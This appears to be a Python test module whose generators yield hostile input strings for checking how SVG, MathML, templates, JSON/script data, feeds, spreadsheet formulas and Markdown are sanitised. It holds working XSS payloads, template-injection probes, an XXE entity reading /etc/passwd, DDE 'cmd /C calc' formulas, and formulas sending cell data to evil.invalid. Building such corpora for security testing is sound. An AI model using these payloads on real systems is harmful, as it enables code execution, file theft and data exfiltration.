"""Hostile texts for other formats than HTML: drawings, data, feeds, formulas, Markdown."""

from collections.abc import Iterator


def drawings() -> Iterator[str]:
    yield "<svg onload=canary()></svg>"
    yield "<svg/onload=canary()>"
    yield "<svg><script>canary()</script></svg>"
    yield "<svg><script href=data:,canary() />"
    yield "<svg><a xlink:href='javascript:canary()'><text y=20>x</text></a></svg>"
    yield "<svg><use href='data:image/svg+xml,<svg id=x onload=canary()>#x'></svg>"
    yield "<svg><image href=https://evil.invalid/x.png></svg>"
    yield "<svg><style><img src=x onerror=canary()></style></svg>"
    yield "<svg><foreignObject><iframe src=javascript:canary()></iframe></foreignObject></svg>"
    yield "<svg><set attributeName=onmouseover to=canary()>"
    yield "<svg><animate xlink:href=#x attributeName=href values=javascript:canary() /></svg>"
    yield "<math><mtext><table><mglyph><style><img src=x onerror=canary()>"
    yield "<math href='javascript:canary()'>x</math>"
    yield "<math><maction actiontype='statusline#x' xlink:href=javascript:canary()>"
    yield '<svg></p><style><a id="</style><img src=1 onerror=canary()>">'
    yield "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary()>"


def templates() -> Iterator[str]:
    yield "{{ 7*191 }}"
    yield "{{ layout }}"
    yield "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    yield "{{ page|safe }}"
    yield "{{ cycler.__init__.__globals__ }}"
    yield "{% include 'base.html' %}"
    yield "{% for x in (1).__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"
    yield "{% raw %}{{ 1 }}{% endraw %}"
    yield "{# x #}{{ 7*191 }}"
    yield "{%- autoescape false -%}<script>canary()</script>"
    yield "{{constructor.constructor('canary()')()}}"
    yield "{{$on.constructor('canary()')()}}"
    yield "${7*191}"
    yield "${canary()}"
    yield "#{7*191}"
    yield "<%= 7*191 %>"
    yield "<?php echo 7*191 ?>"
    yield "[[7*191]]"
    yield "{7*191}"
    yield "@(7*191)"
    yield "%{7*191}"
    yield "{{{canary()}}}"
    yield "`${canary()}`"
    yield "%s %d {0} {page} %(name)s"


def data() -> Iterator[str]:
    yield "</script><script>canary()</script>"
    yield "</ScRiPt ><script>canary()</script>"
    yield "</script/x><img src=x onerror=canary()>"
    yield "<!--<script>"
    yield "<!--<script></script>--><script>canary()</script>"
    yield '"}]}</script><script>canary()</script>'
    yield '","@type":"Person","x":"'
    yield '\\"}]}</script><script>canary()</script>'
    yield "\\u003c/script\\u003e\\u003cscript\\u003ecanary()"
    yield "]]></script><script>canary()</script>"
    yield '";canary();//'
    yield "';canary();//"
    yield "\\';canary();//"
    yield "*/canary()/*"
    yield "//--></script><script>canary()</script>"
    yield '{"@context":"https://evil.invalid/context"}'


def feeds() -> Iterator[str]:
    yield "]]><script xmlns='http://www.w3.org/1999/xhtml'>canary()</script>"
    yield "<script xmlns='http://www.w3.org/1999/xhtml'>canary()</script>"
    yield "</title><script xmlns='http://www.w3.org/1999/xhtml'>canary()</script>"
    yield "</summary></entry><x:script xmlns:x='http://www.w3.org/1999/xhtml'>canary()</x:script>"
    yield "<?xml-stylesheet href='javascript:canary()'?>"
    yield "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;"
    yield "&y;&undefined;"
    yield "<![CDATA[<script>canary()</script>]]>"
    yield "<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'/>"
    yield "<xsl:value-of select='1'/>"


def formulas() -> Iterator[str]:
    for sign in ("=", "+", "-", "@", "＝", "＋", "－", "＠"):
        yield f"{sign}7*191"
        yield f"{sign}SUM(1,1)"
        yield f"{sign}cmd|' /C calc'!A0"
    yield '=HYPERLINK("https://evil.invalid/?x="&A1,"点这里")'
    yield '=IMPORTXML("https://evil.invalid/","//a")'
    yield '=WEBSERVICE("https://evil.invalid/")'
    yield '=IMAGE("https://evil.invalid/x.png")'
    yield '=DDE("cmd";"/C calc";"x")'
    yield '+"=1"'
    yield "\t=7*191"
    yield "\n=7*191"
    yield " =7*191"
    yield '"=7*191"'
    yield ",=7*191"
    yield ";=7*191"
    yield "'=7*191"
    yield "x\n=7*191"
    yield 'x","=7*191'
    yield 'x"\r\n"=7*191'
    yield "-2+3+cmd|' /C calc'!A0"
    yield "@SUM(1+1)*cmd|' /C calc'!A0"
    yield "%0A=7*191"
    yield "%3D7*191"


def markdown() -> Iterator[str]:
    yield "[a](javascript:canary())"
    yield "[a](<javascript:canary()>)"
    yield "![a](javascript:canary())"
    yield "<javascript:canary()>"
    yield "[a](data:text/html,<script>canary()</script>)"
    yield '[a](index.md "x" onmouseover="canary()")'
    yield '![a](x" onerror="canary())'
    yield "[a][b]\n\n[b]: javascript:canary()"
    yield "`<img src=x onerror=canary()>`"
    yield "\\<script>canary()\\</script>"
    yield "**<b onmouseover=canary()>x</b>**"
    yield "# <img src=x onerror=canary()> {#x onclick=canary()}"
    yield "| <img src=x onerror=canary()> |\n| --- |\n| <script>canary()</script> |"
    yield '```"><script>canary()</script>\nx\n```'
    yield "~~~html\n<script>canary()</script>\n~~~"
    yield "<div>\n\n<script>canary()</script>\n\n</div>"
    yield "[^<script>canary()</script>]"
    yield '<https://evil.invalid/"onmouseover="canary()>'
    yield '["><img src=x onerror=canary()>](x.md)'
    yield "x\n: <script>canary()</script>"
    yield "&#x6a;avascript:canary()"
    yield "[a](&#x6a;avascript:canary())"
    yield "[a](java%0ascript:canary())"
